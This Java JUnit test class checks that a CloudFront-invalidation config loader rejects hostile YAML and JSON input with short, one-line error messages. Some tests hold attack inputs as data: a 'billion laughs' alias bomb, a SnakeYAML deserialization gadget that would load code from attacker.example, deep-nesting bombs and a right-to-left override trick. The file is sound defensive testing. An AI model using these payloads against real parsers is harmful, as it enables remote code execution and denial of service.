package dev.invalidator.config;

import static dev.invalidator.config.Configs.json;
import static dev.invalidator.config.Configs.web;
import static dev.invalidator.config.Configs.yaml;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.time.Duration;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;

/** Input written to hurt: every case ends in one bounded, single-line message, quickly. */
class HostileConfigTest {

    private static final String LONG = "A".repeat(10_000);
    private static final String SHOWN = "\"" + "A".repeat(59) + "…\" (10000 characters)";

    @Nested
    class VeryLongValues {

        // YAML caps implicit keys at 1024 characters, so long keys reach the checks only in JSON.
        @Test
        void a_long_alias_is_shown_shortened() {
            assertThatThrownBy(() -> json("{\"distributions\": {\"" + LONG + "\": {}}}"))
                    .hasMessage("invalidator.json: distributions." + SHOWN + ": not a valid alias — use 1 to 32"
                            + " lower-case letters, digits, \"-\" or \"_\", starting with a letter or digit, e.g. web");
        }

        @Test
        void a_long_id_is_shown_shortened() {
            assertThatThrownBy(() -> yaml(web("id: " + LONG + ", channels: [C0OPS], users: [\"*\"]")))
                    .hasMessage("invalidator.yml: distributions.web.id: " + SHOWN + " is not a CloudFront"
                            + " distribution id — ids are 8 to 32 upper-case letters and digits starting with a letter,"
                            + " e.g. E1WEBEXAMPLE");
        }

        @Test
        void a_long_channel_id_is_not_taken_for_an_id() {
            assertThatThrownBy(() -> yaml(web("id: E1WEBEXAMPLE, channels: [C" + LONG + "], users: [\"*\"]")))
                    .hasMessageStartingWith("invalidator.yml: distributions.web.channels[0]: \"CAAAA")
                    .hasMessageContaining("(10001 characters) is not a channel id");
        }

        @Test
        void a_long_role_arn_is_not_taken_for_an_arn() {
            String arn = "arn:aws:iam::111122223333:role/" + "a".repeat(10_000);
            assertThatThrownBy(() -> yaml(web("id: E1WEBEXAMPLE, channels: [C0OPS], users: [\"*\"], roleArn: " + arn)))
                    .hasMessageContaining("(10031 characters) is not an IAM role ARN");
        }

        @Test
        void a_long_unknown_key_is_shown_shortened() {
            assertThatThrownBy(() -> json("{\"distributions\": {}, \"" + LONG + "\": 1}"))
                    .hasMessage(
                            "invalidator.json: " + SHOWN + ": unknown key — the keys here are distributions,"
                                    + " tenants, polling, limits, groups, confirm, verify, cloudfront, queue and distributionGroups");
        }

        @Test
        void a_long_number_is_shown_shortened() {
            assertThatThrownBy(
                            () -> yaml(Configs.validWith("limits: {maxPathsPerRequest: " + "9".repeat(10_000) + "}")))
                    .hasMessageContaining("(10000 characters)")
                    .hasMessageStartingWith("invalidator.yml: limits.maxPathsPerRequest: ");
        }

        @Test
        void text_over_one_mebibyte_is_rejected_without_parsing() {
            assertThatThrownBy(() -> yaml("# " + "x".repeat(1 << 20)))
                    .hasMessage("invalidator.yml: is larger than 1024 KiB — a config is a few kilobytes; check that"
                            + " this is the right file");
        }
    }

    @Nested
    class StrangeCharacters {

        @Test
        void a_unicode_misspelling_still_gets_a_suggestion() {
            assertThatThrownBy(() -> yaml(web("id: E1WEBEXAMPLE, chännels: [C0OPS], users: [\"*\"]")))
                    .hasMessage("invalidator.yml: distributions.web.\"chännels\": unknown key — did you mean"
                            + " \"channels\"?");
        }

        @Test
        void a_key_in_another_script_is_quoted() {
            assertThatThrownBy(() -> yaml("дистрибуции: {}\n"))
                    .hasMessage(
                            "invalidator.yml: \"дистрибуции\": unknown key — the keys here are distributions,"
                                    + " tenants, polling, limits, groups, confirm, verify, cloudfront, queue and distributionGroups");
        }

        @Test
        void an_emoji_is_not_an_alias() {
            assertThatThrownBy(() -> yaml("distributions: {\"🚀\": " + Configs.VALID_WEB + "}"))
                    .hasMessageStartingWith("invalidator.yml: distributions.\"🚀\": not a valid alias");
        }

        @Test
        void a_slack_broadcast_is_not_an_alias_in_json_either() {
            assertThatThrownBy(() -> json("{\"distributions\": {\"<!channel>\": {\"id\": \"E1WEBEXAMPLE\"}}}"))
                    .hasMessageStartingWith("invalidator.json: distributions.\"<!channel>\": not a valid alias");
        }

        @Test
        void line_breaks_in_a_key_are_spelled_out_so_the_message_stays_on_one_line() {
            assertThatThrownBy(() -> json("{\"distributions\": {}, \"a\\nb\\r\\nc\": 1}"))
                    .hasMessage(
                            "invalidator.json: \"a\\nb\\r\\nc\": unknown key — the keys here are distributions,"
                                    + " tenants, polling, limits, groups, confirm, verify, cloudfront, queue and distributionGroups");
        }

        @Test
        void invisible_characters_in_a_value_are_spelled_out() {
            assertThatThrownBy(() -> json("{\"distributions\": {\"web\": {\"id\": \"E1WEB\\u202Egnp.exe\"}}}"))
                    .hasMessageStartingWith("invalidator.json: distributions.web.id: \"E1WEB\\u202Egnp.exe\" is not a"
                            + " CloudFront distribution id");
        }

        @Test
        void a_quote_in_a_value_is_escaped() {
            assertThatThrownBy(() -> json("{\"distributions\": {\"web\": {\"id\": \"E1\\\"WEB\"}}}"))
                    .hasMessageStartingWith("invalidator.json: distributions.web.id: \"E1\\\"WEB\" is not a CloudFront"
                            + " distribution id");
        }
    }

    @Nested
    class ParserAbuse {

        private String billionLaughs() {
            StringBuilder yaml = new StringBuilder("a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
            for (int level = 1; level <= 9; level++) {
                String previous = "*a" + (level - 1);
                yaml.append("a")
                        .append(level)
                        .append(": &a")
                        .append(level)
                        .append(" [")
                        .append(IntStream.range(0, 9).mapToObj(i -> previous).collect(Collectors.joining(", ")))
                        .append("]\n");
            }
            return yaml.toString();
        }

        @Test
        void a_yaml_alias_bomb_is_rejected_at_the_first_alias_without_expanding_it() {
            String bomb = billionLaughs();
            assertTimeoutPreemptively(
                    Duration.ofSeconds(10),
                    () -> assertThatThrownBy(() -> yaml(bomb))
                            .hasMessage(
                                    "invalidator.yml: a1[0]: uses the YAML alias *a0 (line 2, column 10) but aliases are"
                                            + " not supported — write the value out in full"));
        }

        @Test
        void deep_nesting_stops_at_the_parsers_depth_limit() {
            String deep = "[".repeat(100_000) + "]".repeat(100_000);
            assertThatThrownBy(() -> yaml(deep))
                    .hasMessage("invalidator.yml: the parser stopped at a safety limit: Document nesting depth (1001)"
                            + " exceeds the maximum allowed (1000) — this does not look like an Invalidator config");
        }

        @Test
        void deep_nesting_in_json_stops_the_same_way() {
            String deep = "[".repeat(100_000) + "]".repeat(100_000);
            assertThatThrownBy(() -> json(deep))
                    .hasMessage("invalidator.json: the parser stopped at a safety limit: Document nesting depth (1001)"
                            + " exceeds the maximum allowed (1000) — this does not look like an Invalidator config");
        }

        @Test
        void java_type_tags_do_not_construct_objects() {
            assertThatThrownBy(
                            () -> yaml(
                                    web(
                                            "id: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader"
                                                    + " [[!!java.net.URL [\"http://attacker.example/\"]]]], channels: [C0OPS], users: [\"*\"]")))
                    .hasMessage("invalidator.yml: distributions.web.id: expected text such as E1WEBEXAMPLE, found a"
                            + " list");
        }

        @Test
        void a_merge_key_is_an_unknown_key() {
            assertThatThrownBy(() -> yaml(web("<<: {id: E1WEBEXAMPLE}, channels: [C0OPS], users: [\"*\"]")))
                    .hasMessage("invalidator.yml: distributions.web.\"<<\": unknown key — the keys here are id,"
                            + " channels, users, roleArn, approvers, approvalFor, verify and workflowsSkipConfirm");
        }

        @Test
        void ten_thousand_ids_load_as_an_ordinary_list() throws ConfigException {
            String users = IntStream.range(0, 10_000)
                    .mapToObj(i -> "U" + (100_000 + i))
                    .collect(Collectors.joining(", "));
            assertThat(yaml(web("id: E1WEBEXAMPLE, channels: [C0OPS], users: [" + users + "]"))
                            .byAlias("web")
                            .map(d -> d.users().ids().size()))
                    .contains(10_000);
        }
    }
}
